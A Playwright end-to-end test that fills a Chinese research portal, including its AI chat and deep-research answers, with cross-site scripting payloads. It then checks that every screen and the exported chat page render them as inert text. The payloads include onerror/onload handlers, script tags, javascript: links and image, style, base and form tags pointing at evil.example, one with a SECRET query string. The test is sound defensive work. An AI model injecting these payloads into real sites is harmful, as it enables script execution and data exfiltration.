import assert from 'node:assert/strict';
import fs from 'node:fs';
import type { Page } from 'playwright-core';
import { startFakeModel } from '../../server/answering/testing/fakeModel';
import type { NewReference } from '../../src/contract/entities/reference';
import { signIn } from '../journey';
import type { Journey, Stage } from '../journey';
import { callAs } from '../people';
import { startPortal } from '../portal';
import type { Portal } from '../portal';
import { settled } from '../settled';

const MAX_MS = 60_000;
const SEEN_MS = 15_000;
/** A text that would run, and fetch, wherever it is not shown as what it is. `mark` is what is looked for. */
const hostile = (mark: string) => `${mark}<img src=//evil.example/${mark} onerror=alert(1)>`;
/** The same for names of at most thirty characters. */
const short = (mark: string) => `${mark}<svg onload=alert(1)>`;

const ANSWER = [
  `${hostile('回答')} <script>alert(1)</script> <iframe srcdoc="<script>alert(1)</script>"></iframe>[1]。\n\n`,
  '![图](//evil.example/p.png?q=SECRET) ![图](https://evil.example/p.png) [点](javascript:alert(1)) [点](//evil.example)[1]。\n\n',
  '公式 $\\href{javascript:alert(1)}{x}$，$\\frac{<img src=//evil.example/tex onerror=alert(1)>$，$x^2$[1]。\n\n',
  '<style>@import url(//evil.example/x.css)</style><base href="//evil.example/"><form action="//evil.example"><input name=a></form>[1]。\n\n',
];

/** A portal whose title is hostile, and whose model answers the worst that it can. */
async function hostilePortal(): Promise<Portal> {
  const model = await startFakeModel();
  model.answer = () => ANSWER;
  const settings = { MODEL_BASE_URL: model.url, MODEL_NAME: 'stand-in', INTERNAL_HOSTS: '127.0.0.1', SITE_TITLE: hostile('门户') };
  const portal = await startPortal(settings).catch(async (error: unknown) => {
    await model.close();
    throw error;
  });
  return { ...portal, stop: async () => portal.stop().finally(() => model.close()) };
}

/** Everything that people, records and models can name is a trap; each screen shows it as text. The runner watches for the rest. */
export const hostileTexts: Journey = {
  name: 'hostile',
  portal: hostilePortal,
  async run(stage) {
    const { page, portal } = stage;
    await signIn(stage);
    const { paper, base, project, file } = await plant(stage);
    const visit = async (route: string, ...marks: string[]) => {
      await page.goto(`${portal.origin}/#/${route}`);
      await settled(page);
      for (const mark of marks)
        await page.getByText(mark, { exact: false }).filter({ visible: true }).first().waitFor({ timeout: SEEN_MS });
      await harmless(page, route);
    };
    await page.reload();
    await visit('home', '门户', '昵称');
    assert.equal(await page.title(), hostile('门户'));
    await visit('home/searchResult?q=heron', '题名', '作者', '刊名');
    await visit(`home/searchResult?q=${encodeURIComponent(hostile('检索词'))}`);
    await visit('scientific/searchResult?q=heron', '题名');
    await visit('home/searchHistory', '检索词');
    await visit('subscribe', '主题');
    await visit(`knowledgeBase?base=${base}`, '基地', '夹子', '标签', '文件', '题名');
    await visit('knowledgeBase?files=own', '文件');
    await visit('project', '项目');
    await visit(`project/member?project=${project}`, '昵称');
    await visit(`readDetailMore?paper_id=${encodeURIComponent(paper)}&tab=abstract`, '题名', '摘要');
    await visit(`readDetailMore?paper_id=${encodeURIComponent(paper)}&tab=notes`, '笔记');
    await visit(`readDetailMore?paper_id=${encodeURIComponent(paper)}&tab=cite`, '题名');
    await visit(`readDetailMore?file_id=${file}`, '文件');
    await visit(`error?err_code=${encodeURIComponent(hostile('404'))}`, '出错了');
    await visit(`noLoginError?err_code=${encodeURIComponent('"><script>alert(1)</script>')}`);
    await converse(stage);
    await research(stage);
  },
};

/** Fills the portal, by the calls that its screens make. */
async function plant({ page, portal }: Stage): Promise<{ paper: string; base: string; project: string; file: string }> {
  const call = <T>(method: 'GET' | 'POST' | 'PUT', path: string, data?: object) =>
    callAs<T>(page.request, method, `${portal.origin}${path}`, data);
  const record: NewReference = {
    resource_type: 1,
    authors: [hostile('作者')],
    authors_short: [],
    title: `The heron, ${hostile('题名')}`,
    title_zh: '',
    url: 'javascript:alert(1)',
    basic_sourcename: hostile('刊名'),
    publish_date: '2020',
    basic_source_vo: '"><svg onload=alert(1)>3',
    basic_source_no: '1',
    basic_page: '<b>1-9</b>',
    publish_venue: [],
    isbn: '',
    doi: '',
    keywords: [hostile('词')],
    abstract: `The heron waits above the water, ${hostile('摘要')} <script>alert(1)</script>. It is grey in winter.`,
    abstract_zh: '',
    language: 'en',
    year: 2020,
    subject_code: '',
    subject: '',
  };
  const { paper_id_list } = await call<{ paper_id_list: string[] }>('POST', '/api/paper/references', {
    dataset_id: null,
    records: [record],
  });
  const paper = paper_id_list[0] ?? '';
  await call('PUT', '/api/user/profile', { nick_name: short('昵称') });
  const { project_id } = await call<{ project_id: string }>('POST', '/api/project/add', {
    name: hostile('项目').slice(0, 64),
    desc: hostile('说明'),
  });
  const { dataset_id: base } = await call<{ dataset_id: string }>('POST', '/api/project_dataset/create', {
    name: hostile('基地'),
    desc: hostile('说明'),
  });
  const { folder_id } = await call<{ folder_id: string }>('POST', `/api/dataset/${base}/folder`, { name: hostile('夹子') });
  const { tag_id } = await call<{ tag_id: string }>('POST', '/api/project_dataset/tag_opreate', {
    dataset_id: base,
    name: short('标签'),
    group_name: short('组'),
  });
  await call('POST', '/api/project_dataset/opreate', { dataset_id: base, paper_id_list: [paper] });
  const { records } = await call<{ records: { document_id: string }[] }>('GET', `/api/dataset/${base}/document_paper_detail/1/10`);
  await call('GET', `/api/project_dataset/document/add_tag?dataset_id=${base}&document_id=${records[0]?.document_id}&tag_id=${tag_id}`);
  await call('POST', '/api/application/userPrompt/add', { title: hostile('提示').slice(0, 60), content: hostile('提示词') });
  await call('POST', '/api/paper/notes', { paper_id: paper, quote: hostile('摘录'), comment: hostile('笔记') });
  await call('POST', '/api/search_log/add', { query: hostile('检索词'), total: 1 });
  await call('POST', '/api/user/prefer/saveTopicPrefer', {
    topic_codes: [],
    own_topics: [{ name: short('主题'), query: 'heron' }],
    version: 0,
  });
  const [file] = await Promise.all(
    [`${portal.origin}/api/dataset/document/autoSplitSave/${base}`, `${portal.origin}/api/paper/reding_file_parse`].map(async (url) => {
      const name = '文件<img src=x onerror=alert(1)>.html';
      const buffer = Buffer.from(
        '<html><body><h1>Heron</h1><script>alert(1)</script><img src=//evil.example/f onerror=alert(1)><p>&lt;img src=x onerror=alert(1)&gt; text of the file</p></body></html>',
      );
      const answer = await page.request.post(url, {
        headers: { login_type: 'front' },
        multipart: { file: { name, mimeType: 'text/html', buffer } },
      });
      const { data } = (await answer.json()) as { data: { file_id: string } | { file_id: string }[] };
      return [data].flat()[0]?.file_id ?? '';
    }),
  );
  assert.ok(folder_id && file);
  return { paper, base, project: project_id, file };
}

/** Nothing on the page can run, and links lead only to the portal, the web or a mail. */
async function harmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    const withHandlers = all.filter((element) => [...element.attributes].some(({ name }) => /^on/i.test(name)));
    const embedded = document.querySelectorAll(
      'iframe, object, embed, base, form[action], script:not([src], [type="application/json"]), meta[http-equiv=refresh]',
    );
    const fetching = [...document.querySelectorAll<HTMLElement>('[src], link[href]')].filter((element) => {
      const url = new URL(element.getAttribute('src') ?? element.getAttribute('href') ?? '', location.href);
      return url.origin !== location.origin && !['data:', 'blob:'].includes(url.protocol);
    });
    const leading = [...document.querySelectorAll('a[href]')].filter(
      (link) => !/^(https?|mailto):$/.test(new URL(link.getAttribute('href') ?? '', 'https://here.invalid/').protocol),
    );
    const hidden = [...document.querySelectorAll('a[href^="//"]')];
    return [...withHandlers, ...embedded, ...fetching, ...leading, ...hidden].map((element) => element.outerHTML.slice(0, 200));
  });
  assert.deepEqual(found, [], where);
}

/** A conversation: while the answer comes, read again, in the history, and as the page that it is exported to. */
async function converse(stage: Stage): Promise<void> {
  const { page, portal, context } = stage;
  await page.goto(`${portal.origin}/#/agent`);
  const box = page.getByRole('textbox', { name: '提问' });
  await box.fill(`What is the heron? ${hostile('问题')}`);
  await box.press('Enter');
  const answer = page.getByRole('group', { name: '回答', exact: true }).last();
  await answer.getByText('回答<img', { exact: false }).waitFor({ timeout: MAX_MS });
  await page.getByRole('button', { name: '停止' }).waitFor({ state: 'detached', timeout: MAX_MS });
  await page.waitForURL((url) => url.hash.includes('chat='));
  await harmless(page, 'answer');
  await page.reload();
  await answer.getByText('回答<img', { exact: false }).waitFor({ timeout: MAX_MS });
  await answer.locator('.katex').first().waitFor();
  await harmless(page, 'answer, read again');
  await stage.look('hostile-answer-1440');

  await page
    .getByRole('button', { name: /^导出对话/ })
    .first()
    .click();
  const dialog = page.getByRole('dialog', { name: '导出对话' });
  const [download] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: /^网页/ }).click()]);
  const exported = await context.newPage();
  const asked: string[] = [];
  exported.on('request', (request) => asked.push(request.url()));
  exported.on('dialog', (opened) => void opened.dismiss().then(() => asked.push(`dialog: ${opened.message()}`)));
  // Without the file's own policy: what is in it must be harmless by itself.
  const html = fs.readFileSync(await download.path(), 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, '');
  await exported.setContent(html, { waitUntil: 'load' });
  await exported.getByText('回答<img', { exact: false }).first().waitFor();
  assert.deepEqual(asked, []);
  await harmless(exported, 'exported page');
  await exported.close();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });

  await page.goto(`${portal.origin}/#/home/searchHistory?tab=chats`);
  await page.getByText('问题<img', { exact: false }).first().waitFor();
  await harmless(page, 'history of conversations');
}

async function research(stage: Stage): Promise<void> {
  const { page, portal } = stage;
  await page.goto(`${portal.origin}/#/deepResearch`);
  await page.getByText(/^今日还可发起 \d+ 次研究$/).waitFor();
  const box = page.getByRole('textbox', { name: '提问' });
  await box.fill(`How does the heron wait above the water? ${hostile('研究')}`);
  await box.press('Enter');
  await page.getByRole('button', { name: '开始研究' }).click({ timeout: MAX_MS });
  await page.getByText('报告已生成').waitFor({ timeout: MAX_MS });
  await page.getByRole('article', { name: '报告' }).waitFor();
  await harmless(page, 'research');
  await stage.look('hostile-research-1440');
}
